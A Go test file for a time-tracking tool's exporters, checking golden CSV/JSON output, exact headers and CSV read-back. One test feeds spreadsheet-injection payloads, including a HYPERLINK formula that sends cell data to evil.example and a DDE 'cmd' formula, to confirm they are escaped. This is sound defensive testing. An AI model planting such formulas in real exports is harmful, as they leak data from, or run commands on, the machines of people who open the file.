package formats

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stint-sh/stint/internal/timesheet"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var update = flag.Bool("update", false, "rewrite golden files")

func assertGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.WriteFile(path, got, 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "run go test -update once to create %s", path)
	assert.Equal(t, string(want), string(got))
}

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

func zone(t *testing.T, name string) *time.Location {
	loc, err := time.LoadLocation(name)
	require.NoError(t, err)
	return loc
}

// sampleEntries exercise quoting, tags, non-billable time, a day change in
// the client's zone, a duration over 24 h and a running entry.
func sampleEntries() []timesheet.Entry {
	return []timesheet.Entry{
		{ID: 1, Client: "acme", Start: at("2024-03-30T22:30:00Z"), End: timesheet.TimePtr(at("2024-03-31T01:15:30Z")),
			Note: `Deploy "v2", rollback plan`, Tags: []string{"ops", "oncall"}, Billable: true, Source: timesheet.SourceSwitch},
		{ID: 2, Client: "globex", Start: at("2024-04-02T13:00:00Z"), End: timesheet.TimePtr(at("2024-04-02T13:20:00Z")),
			Note: "Standup\nand notes", Billable: false, Source: timesheet.SourceManual},
		{ID: 3, Client: "initech", Start: at("2024-04-03T08:00:00Z"), End: timesheet.TimePtr(at("2024-04-04T09:00:05Z")),
			Note: "", Tags: []string{"migration"}, Billable: true, Source: timesheet.SourceImport},
		{ID: 4, Client: "acme", Start: at("2024-04-05T07:00:00Z"), Note: "still going", Billable: true, Source: timesheet.SourceManual},
	}
}

func sampleOptions(t *testing.T) ExportOptions {
	return ExportOptions{
		Clients: map[string]ClientInfo{
			"acme":   {Name: "Acme Corp", Location: zone(t, "Europe/Berlin")},
			"globex": {Name: "Globex, Inc.", Location: zone(t, "America/New_York")},
		},
		Location: time.UTC, User: "Dana Doe", Email: "dana@example.com", FirstName: "Dana", LastName: "Doe",
	}
}

func TestExportGoldens(t *testing.T) {
	for _, c := range []struct {
		format Format
		golden string
	}{
		{FormatCSV, "export.csv"},
		{FormatJSON, "export.json"},
		{FormatToggl, "export_toggl.csv"},
		{FormatClockify, "export_clockify.csv"},
		{FormatHarvest, "export_harvest.csv"},
	} {
		var b bytes.Buffer
		require.NoError(t, Write(c.format, &b, sampleEntries(), sampleOptions(t)), c.format)
		assertGolden(t, c.golden, b.Bytes())
	}
}

// TestCSVCellsAreNeverFormulas: stint's own CSV, opened in a spreadsheet,
// shows notes and tags that start like a formula as text.
func TestCSVCellsAreNeverFormulas(t *testing.T) {
	var entries []timesheet.Entry
	for i, note := range []string{
		`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
		"=", "plain note", " =not at the start", "'already quoted", "",
	} {
		start := at("2024-04-01T09:00:00Z").Add(time.Duration(i) * time.Hour)
		entries = append(entries, timesheet.Entry{ID: int64(i + 1), Client: "acme", Start: start,
			End: timesheet.TimePtr(start.Add(30 * time.Minute)), Note: note, Billable: true, Source: timesheet.SourceManual})
	}
	entries[0].Tags = []string{"=cmd|' /C calc'!A0", "ok"}
	entries[1].Tags = []string{"ok", "=second"}
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, entries))
	assertGolden(t, "export_formulas.csv", b.Bytes())

	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	for _, row := range rows[1:] {
		for _, cell := range row[5:7] {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q would be a formula", cell)
			}
		}
	}
	assert.Equal(t, "plain note", rows[8][5], "ordinary text is untouched")
	assert.Equal(t, "ok;=second", rows[2][6], "only a cell's first character counts")
}

func TestExportHeadersAreExact(t *testing.T) {
	want := map[Format]string{
		FormatCSV:      "id,client,start,end,duration_seconds,note,tags,billable,source",
		FormatToggl:    "User,Email,Client,Project,Task,Description,Billable,Start date,Start time,Duration,Tags",
		FormatClockify: "Project,Client,Description,Task,Email,Tags,Billable,Start Date,Start Time,Duration (h)",
		FormatHarvest:  "Date,Client,Project,Task,Notes,Hours,First name,Last name",
	}
	for f, header := range want {
		var b bytes.Buffer
		require.NoError(t, Write(f, &b, nil, ExportOptions{}))
		assert.Equal(t, header+"\n", b.String(), f)
	}
	var b bytes.Buffer
	require.NoError(t, WriteJSON(&b, nil))
	assert.Equal(t, "[]\n", b.String())
	_, err := ParseFormat("xlsx")
	assert.ErrorContains(t, err, "use csv, json, toggl, clockify or harvest")
}

// The stint CSV must read back to the same entries.
func TestStintCSVReadsBack(t *testing.T) {
	var b bytes.Buffer
	require.NoError(t, WriteCSV(&b, sampleEntries()))
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 5)
	for i, e := range sampleEntries() {
		row := rows[i+1]
		start, err := time.Parse(time.RFC3339, row[2])
		require.NoError(t, err)
		assert.True(t, start.Equal(e.Start))
		assert.Equal(t, e.Note, row[5])
		if e.End == nil {
			assert.Empty(t, row[3]+row[4])
		}
	}
}
